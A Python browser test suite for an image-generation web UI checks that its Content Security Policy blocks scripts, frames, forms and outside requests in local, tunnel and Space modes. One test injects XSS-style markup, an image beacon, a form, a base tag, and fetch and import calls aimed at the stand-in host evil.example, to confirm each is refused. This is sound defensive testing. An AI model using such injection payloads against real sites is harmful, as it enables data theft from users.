"""The second line, in a browser: what the page may load and run, in every mode, and what it may not."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import ExitStack, closing, contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from playwright.sync_api import Browser, Page, expect
from starlette.responses import HTMLResponse
from starlette.testclient import TestClient

from core.engine import Engine
from core.events import Event, Finished
from core.jobs.history import History
from core.jobs.queue import JobQueue
from core.request.generation import GenerationRequest
from core.settings import Settings
from tests.browser import new_tab, open_page, without_errors
from tests.darkroom import Script
from tests.test_app import free_port
from tests.ui.server.test_policy import HEADER
from ui import bundle
from ui.app import THEME, build_page
from ui.server.policy import hashes, with_policy
from ui.server.serving import running

pytestmark = [  # gradio's own, of pandas
    pytest.mark.filterwarnings("ignore:'future.no_silent_downcasting'"),
    pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
]
USER = {"username": "friend", "password": "secret"}
AUTH = ":".join(USER.values())
MODES: dict[str, dict[str, Any]] = {  # the local one is held by all other tests of the page
    "127.0.0.1": {"host": "0.0.0.0", "auth": AUTH},
    "abc.gradio.live": {"share": True, "auth": AUTH},
    "a-b.hf.space": {},
}


def paints(request: GenerationRequest) -> Iterator[Event]:
    resolved = request.replace(checkpoint="pocket", sampler="DDIM", guidance_scale=2.0, width=64, height=64, seed=1)
    yield Finished([Image.new("RGB", (64, 64), "red")], resolved)


@contextmanager
def served(data: Path, **flags: Any) -> Iterator[int]:
    """The whole page on a port of its own, whose pictures are red."""
    asked = Settings(port=free_port(), data=data, **flags)
    engine = Engine(asked)
    with ExitStack() as opened:
        history = opened.enter_context(closing(History(data)))
        queue = opened.enter_context(closing(JobQueue(Script(paints), history, asked.limits)))
        page = build_page(engine, queue, history)
        opened.enter_context(running(page, engine, queue, history, theme=THEME))
        yield asked.port


@pytest.mark.parametrize("name", MODES)
def test_the_page_works_under_its_policy_in_every_mode(
    browser: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    if name == "a-b.hf.space":
        monkeypatch.setenv("SPACE_ID", "a/b")
        monkeypatch.setenv("SPACE_HOST", name)
        monkeypatch.setattr("gradio.utils.get_space", lambda: "a/b")
        monkeypatch.setattr("gradio.http_server.get_space", lambda: None)  # or it looks for changes of the source
    monkeypatch.setattr("gradio.networking.setup_tunnel", lambda **_: "http://abc.gradio.live")
    Image.new("RGB", (64, 64), "blue").save(tmp_path / "blue.png")
    with served(tmp_path / "data", **MODES[name]) as port, new_tab(browser) as page, without_errors(page):
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        awake = {"runtime": {"stage": "RUNNING"}, "id": "a/b"}
        page.route("https://huggingface.co/**", lambda route: route.fulfill(json=awake))
        if name != "127.0.0.1":
            page.context.add_cookies(cookies(name, port))
        page.goto(f"http://{name}:{port}/")
        if name == "127.0.0.1":
            for field, value in USER.items():
                page.fill(f"[name={field}]", value)
            page.click("button")
        tour(page, tmp_path / "blue.png")
        elsewhere = {url for url in asked if not url.startswith((f"http://{name}:{port}/", "data:", "blob:"))}
        assert elsewhere <= {f"https://huggingface.co/api/spaces/by-subdomain/a-b:{port}"}


def cookies(name: str, port: int) -> list[Any]:
    """What https would keep, for a browser that comes without."""
    at, given = f"http://127.0.0.1:{port}", []
    if "auth" in MODES[name]:
        given.append(
            httpx.post(f"{at}/login", data=USER, headers={"Host": name}).headers["Set-Cookie"].partition(";")[0]
        )
    page = httpx.get(at, headers={"Host": name, "Cookie": "; ".join(given)})
    given.append(page.headers["Set-Cookie"].partition(";")[0])
    return [dict(zip(("name", "value"), each.split("=", 1), strict=True), url=f"http://{name}") for each in given]


def tour(page: Page, picture: Path) -> None:
    """A picture from text and one from a picture; every tab; the script and the font of our own."""
    expect(page.locator("#machine b")).not_to_be_empty(timeout=30_000)
    page.fill("#field-prompt textarea", "a red square")
    page.keyboard.press("Tab")
    page.click("#go")
    expect(page.locator("#stage .film li[data-status=done]")).to_have_count(1)
    page.wait_for_function("document.querySelector('#stage .picture').naturalWidth === 64")
    page.get_by_role("tab", name="Image to image").click()
    page.set_input_files("#stage .easel [name=pictures]", picture)
    page.wait_for_function("document.querySelector('#form-image textarea').value")
    page.click("#go")
    expect(page.locator("#stage .film li[data-status=done]")).to_have_count(2)
    for tab in ("ControlNet", "LoRA", "History", "PNG info", "This machine"):
        page.get_by_role("tab", name=tab).click()
    assert page.evaluate("document.fonts.check('13px Geist')")


@pytest.fixture(scope="module")
def at(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with pytest.MonkeyPatch.context() as patch:
        patch.delenv("SPACE_ID", raising=False)
        with served(tmp_path_factory.mktemp("data")) as port:
            yield f"http://127.0.0.1:{port}/"


INJECTED = {
    "script-src-elem": "<iframe srcdoc='<script>parent.ran = true</script>'></iframe>",
    "script-src-attr": "<img src=nowhere onerror='window.ran = true'>",
    "img-src": "<img src='https://evil.example/?what-you-wrote'>",
    "object-src": "<object data='/livez'></object>",
    "frame-src": "<iframe src='https://evil.example/'></iframe>",
    "form-action": "<form action='https://evil.example/'><button id=send></button></form>",
}


def test_markup_that_got_into_the_page_does_nothing(browser: Browser, refused: list[str], at: str) -> None:
    with new_tab(browser) as page:
        reached: list[str] = []
        page.route("**evil.example**", lambda route: reached.append(route.request.url))
        page.add_init_script(
            "window.seen = []; addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective))"
        )
        open_page(page, at)
        for directive, markup in INJECTED.items():
            page.evaluate("(html) => document.body.insertAdjacentHTML('beforeend', html)", markup)
            page.evaluate("document.querySelector('#send')?.click()")
            if directive != "script-src-elem":  # the frame's own document tells of it
                page.wait_for_function("(name) => seen.includes(name)", arg=directive)
        page.evaluate(
            "document.head.prepend(Object.assign(document.createElement('base'), {href: '//evil.example'}))"
        )
        page.evaluate("document.head.append(Object.assign(document.createElement('script'), {text: 'ran = true'}))")
        page.evaluate("fetch('https://evil.example/').catch(() => 0)")
        page.evaluate("import('https://evil.example/a.js').catch(() => 0)")
        assert {"script-src-elem", "connect-src", "base-uri"} <= set(page.evaluate("seen"))
        assert page.evaluate("window.ran") is None
        assert not reached
        assert any("inline script" in words for words in refused)
        refused.clear()


def test_a_script_whose_hash_is_not_in_the_answer_is_refused_and_the_pages_own_are_not(at: str) -> None:
    answers = [httpx.get(at, headers={"Host": host}) for host in ("127.0.0.1:80", "localhost")]
    one, other = (answer.headers[HEADER] for answer in answers)
    assert one != other  # gradio's inline config holds the address
    for answer in answers:
        found = hashes(answer.content)
        assert len(found) > 2 and all(each in answer.headers[HEADER] for each in found)
        assert "'unsafe-inline'" not in answer.headers[HEADER].split("script-src")[1].split(";")[0]
        assert "Content-Encoding" not in answer.headers
    head = httpx.head(at, headers={"Host": "localhost"})
    assert (head.headers[HEADER], head.headers["Content-Length"]) == (other, answers[1].headers["Content-Length"])


def test_what_is_no_page_runs_no_script(at: str) -> None:
    sent = httpx.post(f"{at}gradio_api/upload", files={"files": ("a.html", "<script>ran = true</script>")}).json()
    for path in ("livez", "config", "theme.css", "manifest.json", "nowhere", f"gradio_api/file={sent[0]}"):
        policy = httpx.get(f"{at}{path}").headers[HEADER]
        assert policy.startswith("default-src 'none'; ")
        assert "sandbox" in policy and "script" not in policy
        assert policy.endswith("frame-ancestors 'self'")


def test_our_files_are_kept_for_good_and_come_below_a_path(at: str) -> None:
    page = httpx.get(at).text
    for file in bundle.FILES.values():
        assert f"./page/{file.name}" in page
        answer = httpx.get(f"{at}page/{file.name}")
        assert answer.content == file.content
        assert answer.headers["Content-Type"].startswith(file.media_type)
        assert "immutable" in answer.headers["Cache-Control"]
    assert bundle.FONT.name in bundle.STYLE.content.decode()
    gone = httpx.get(f"{at}page/script-0123456789abcdef.js")
    assert (gone.status_code, gone.headers["Cache-Control"]) == (404, "no-store")
    assert page.index("./page/script") < page.index('type="module"')


ODD = st.one_of(
    st.sampled_from("\r\n\0\t\f\v\x1b\x85\u2028\ufeff\ufffd\U0001f3de<>&;!-/'\"`"), st.characters(codec="utf-8")
)
ATTRIBUTES = st.sampled_from(["", " type=text/javascript", " data-mode='a>b'", "\r\nid = x"])


@settings(max_examples=8, deadline=None, suppress_health_check=list(HealthCheck))
@given(scripts=st.lists(st.tuples(ATTRIBUTES, st.text(ODD, max_size=40)), min_size=1, max_size=20))
def test_a_hash_is_what_the_browser_makes_of_the_same_script(empty: Page, scripts: list[tuple[str, str]]) -> None:
    """Whatever stands in a comment of it, but for what would end the comment or the script."""
    html = "<!doctype html><p>&lt;<script>window.ran = 0</script><script src=a>"
    for attributes, odd in scripts:
        inside = odd.replace("*/", "").replace("</", "").replace("<!--", "")
        html += f"</script>\r\n<ScRiPt{attributes}>ran += 1; /* {inside} */</sCrIpT ><script src=a>"
    served = TestClient(with_policy(HTMLResponse(html), "local")).get("/")
    empty.route("http://page.test/", lambda route: route.fulfill(body=served.content, headers=dict(served.headers)))
    empty.goto("http://page.test/")
    assert empty.evaluate("ran") == len(scripts)
    empty.unroute("http://page.test/")


@pytest.fixture
def empty(browser: Browser) -> Iterator[Page]:
    with new_tab(browser) as page:
        page.route("http://page.test/a", lambda route: route.fulfill(content_type="text/javascript"))
        yield page
